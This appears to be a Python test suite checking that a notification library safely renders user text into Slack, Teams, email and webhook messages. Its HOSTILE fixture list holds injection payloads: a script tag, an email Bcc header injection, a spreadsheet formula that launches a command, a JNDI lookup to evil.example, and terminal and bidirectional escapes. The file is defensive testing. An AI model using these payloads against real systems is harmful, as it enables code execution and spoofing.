"""User texts in every channel are shown without effect."""

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser
from typing import Any

import pytest

from mosaico.core.console.terminal import escape_line
from mosaico.notifications.message_layout import build_layout, one_line, resolve_link
from mosaico.notifications.registry import CHANNELS, load_channels
from mosaico.notifications.types import (
    MessageFact,
    MessageItem,
    MessageSeverity,
    NotificationMessage,
    PublishedMessage,
)

load_channels(print)

PUBLIC = "https://mosaico.example"
# In turn: markup of Slack, mentions, HTML, Markdown, headers, terminal escapes, bidirectional
# and invisible characters, automatic links, formulas of spreadsheets and of templates.
HOSTILE = [
    "<!channel> <@U123> <https://evil.example|click> & *bold* _x_ `y`",
    "@here @channel @everyone <at>Everybody</at>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](https://evil.example) **bold** # heading\n- list",
    "name\r\nBcc: everybody@evil.example\r\n\r\nbody",
    "\x1b[31mred\x1b]0;title\x07 \x00 \x9b",
    "\u202egnp.exe\u2066 \u200b\u2028line\u2029",
    "https://evil.example/login www.evil.example",
    "=cmd|' /C calc'!A0",
    "{{7*7}} ${jndi:ldap://evil.example} {{DATE(2020-01-01,SHORT)}}",
    "\ud800 lone",
]


def test_one_line__joined_letters_and_emoji_stay_whole() -> None:
    for name in ("می\u200cخواهم", "\U0001f468\u200d\U0001f469\u200d\U0001f467"):
        assert one_line(name, 80) == name
        assert escape_line(name) == name
    assert one_line("a\u202eb\u200b", 80) == "ab"


def notice_of(text: str, link: str | None = "/api/v1/alerts/1", items: int = 1) -> PublishedMessage:
    """A message in which every text is the same one."""
    facts = (MessageFact(text, text),)
    item = MessageItem(title=text, sentences=(text,), facts=facts, link=link)
    message = NotificationMessage(
        topic="test",
        title=text,
        severity=MessageSeverity.WARNING,
        sentences=(text, text),
        facts=facts,
        items=(item,) * items,
        link=link,
    )
    stored = NotificationMessage.from_document(json.loads(json.dumps(message.to_document())))
    at = datetime(2026, 11, 22, tzinfo=UTC)
    return PublishedMessage(id="01-message", published_at=at, message=stored, public_url=PUBLIC)


def rendered(channel: str, notice: PublishedMessage) -> Any:
    return json.loads(CHANNELS.get(channel).render(notice))


def nodes(document: Any) -> Iterator[dict[str, Any]]:
    """Every object in a document."""
    members: list[Any] = []
    if isinstance(document, dict):
        yield document
        members = list(document.values())
    elif isinstance(document, list):
        members = document
    for member in members:
        yield from nodes(member)


def texts(document: Any) -> Iterator[str]:
    for node in nodes(document):
        yield from (value for value in node.values() if isinstance(value, str))


@pytest.mark.parametrize("text", HOSTILE)
def test_slack_channel__user_texts_only_in_fields_without_markup(text: str) -> None:
    document = rendered("SLACK", notice_of(text))
    known_types = {"header", "plain_text", "rich_text", "rich_text_section", "text", "link"}
    assert {node["type"] for node in nodes(document) if "type" in node} <= known_types
    assert (document["mrkdwn"], document["parse"], document["link_names"]) == (False, "none", False)
    assert not re.search(r"<|>|&(?!amp;|lt;|gt;)", document["text"])
    links = {node["url"] for node in nodes(document) if node.get("type") == "link"}
    assert links == {f"{PUBLIC}/api/v1/alerts/1"}
    assert all(text.replace("\n", "").isprintable() for text in texts(document))


@pytest.mark.parametrize("text", HOSTILE)
def test_teams_channel__user_texts_only_in_text_runs(text: str) -> None:
    document = rendered("TEAMS", notice_of(text))
    card = document["attachments"][0]["content"]
    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
    inlines = [run for block in card["body"] for run in block["inlines"]]
    assert {run["type"] for run in inlines} == {"TextRun"}
    assert "entities" not in card["msteams"]
    urls = {node["url"] for node in nodes(card) if "url" in node}
    assert urls == {f"{PUBLIC}/api/v1/alerts/1"}
    assert all(run["text"].isprintable() for run in inlines)


class HtmlPage(HTMLParser):
    """The tags of a page, with the links in it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: set[str | None] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links |= {value for name, value in attrs if name in ("href", "src")}


@pytest.mark.parametrize("text", HOSTILE)
def test_email_channel__headers_and_tags_do_not_depend_on_user_texts(text: str) -> None:
    raw = CHANNELS.get("EMAIL").render(notice_of(text))
    mail = message_from_bytes(raw, EmailMessage, policy=default)
    assert isinstance(mail, EmailMessage)
    assert set(mail.keys()) == {"Subject", "Auto-Submitted", "MIME-Version", "Content-Type"}
    assert str(mail["Subject"]).isprintable()
    assert len(list(mail.iter_parts())) == 2
    html = mail.get_body(("html",))
    assert isinstance(html, EmailMessage)
    page = HtmlPage()
    page.feed(html.get_content())
    assert page.tags <= {"html", "head", "meta", "body", "h2", "p", "b", "br", "a"}
    assert page.links == {f"{PUBLIC}/api/v1/alerts/1"}
    plain = mail.get_body(("plain",))
    assert isinstance(plain, EmailMessage)
    plain_text = plain.get_content().replace(f"{PUBLIC}/api/v1/alerts/1", "")
    assert not re.search(r"\w://", plain_text)
    assert all(line.isprintable() for line in plain_text.splitlines())


@pytest.mark.parametrize("text", HOSTILE)
def test_webhook_channel__user_texts_are_json_data(text: str) -> None:
    raw = CHANNELS.get("WEBHOOK").render(notice_of(text))
    assert raw.isascii()
    assert not re.search(rb"[\x00-\x1f\x7f]", raw)
    assert json.loads(raw)["data"]["title"] == re.sub(
        "[\0\ud800]", "\N{REPLACEMENT CHARACTER}", text
    )


@pytest.mark.parametrize("size", [1, 30, 500])
def test_teams_channel__card_fits_into_28_kilobytes(size: int) -> None:
    long = notice_of("ü" * 900, items=size)
    body = CHANNELS.get("TEAMS").render(long)
    # The limit of Teams for a card.
    assert len(body) <= 28 * 1024
    if size == 500:
        assert re.search(rb"and \d+ more", body)


def test_slack_channel__message_has_at_most_fifty_blocks() -> None:
    document = rendered("SLACK", notice_of("pelican", items=500))
    # The limit of Slack for a message.
    assert len(document["blocks"]) <= 50
    assert document["blocks"][-2]["elements"][0]["elements"][0]["text"] == "and 460 more"


def test_build_layout__omitted_lines_are_counted() -> None:
    message = NotificationMessage(
        topic="test", title="long", sentences=("one",) * 40, link="/api/v1/alerts/1"
    )
    notice = PublishedMessage(
        id="01", published_at=datetime(2026, 11, 22, tzinfo=UTC), message=message, public_url=""
    )
    [section] = build_layout(notice, max_items=1).sections
    assert [run.text for line in section for run in line] == ["one"] * 29 + ["and 11 more lines"]


def test_resolve_link__only_service_paths_and_web_pages() -> None:
    assert resolve_link("/api/v1/alerts/1", PUBLIC) == f"{PUBLIC}/api/v1/alerts/1"
    assert resolve_link("https://langfuse.example/t/1?x=1", PUBLIC) is not None
    assert resolve_link(None, PUBLIC) is None
    assert resolve_link("/x", "") is None
